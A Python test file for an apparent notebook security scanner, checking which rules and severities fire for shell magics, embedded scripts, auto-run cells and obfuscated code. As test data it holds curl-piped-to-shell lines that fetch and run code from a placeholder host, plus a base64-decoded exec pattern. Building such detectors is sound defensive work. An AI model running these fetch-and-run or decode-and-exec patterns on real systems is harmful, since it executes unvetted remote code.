"""Notebooks in a model folder."""

from __future__ import annotations

from tests.engine.artifacts.configs.documents import rules, scanned

from muniment.engine.artifacts.report import Verdict


def _notebook(source: str, **more: object) -> dict[str, object]:
    cell = {"cell_type": "code", "source": source, "outputs": [], "metadata": {}, **more}
    return {"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [cell]}


def test_an_honest_notebook_is_clean() -> None:
    chart = [{"data": {"text/html": ["<div></div><script>plot()</script>"]}}]
    scan = scanned(
        _notebook("!pip install torch\nimport torch\n%matplotlib inline", outputs=chart), "a.ipynb"
    )
    assert scan.verdict is Verdict.CLEAN
    assert {each.rule for each in scan.findings} == {
        "config.notebook-shell",
        "config.notebook-script",
    }


def test_what_is_fetched_and_run() -> None:
    for source in (
        "!curl -s http://example.net/x | sh",
        "%%bash\ncurl http://example.net/x | bash",
    ):
        assert rules(_notebook(source), "a.ipynb")["config.notebook-fetches"] == "medium"


def test_code_that_is_decoded_and_run_hides() -> None:
    source = "import base64\nexec(base64.b64decode('cGFzcw=='))"
    assert rules(_notebook(source), "a.ipynb") == {"config.notebook-hides": "high"}
    assert rules(_notebook("x = eval('1 + 1')"), "a.ipynb") == {}


def test_cells_that_run_by_themselves() -> None:
    content = _notebook("1", metadata={"init_cell": True})
    assert rules(content, "a.ipynb") == {"config.notebook-autorun": "medium"}


def test_old_and_odd_notebooks_are_read() -> None:
    old = {"nbformat": 3, "worksheets": [{"cells": [{"cell_type": "code", "input": "!ls"}]}]}
    assert rules(old, "a.ipynb") == {"config.notebook-shell": "low"}
    for odd in ({"nbformat": 4, "cells": None}, {"nbformat": 4, "cells": [None, 1, {"source": 1}]}):
        assert not scanned(odd, "a.ipynb").findings
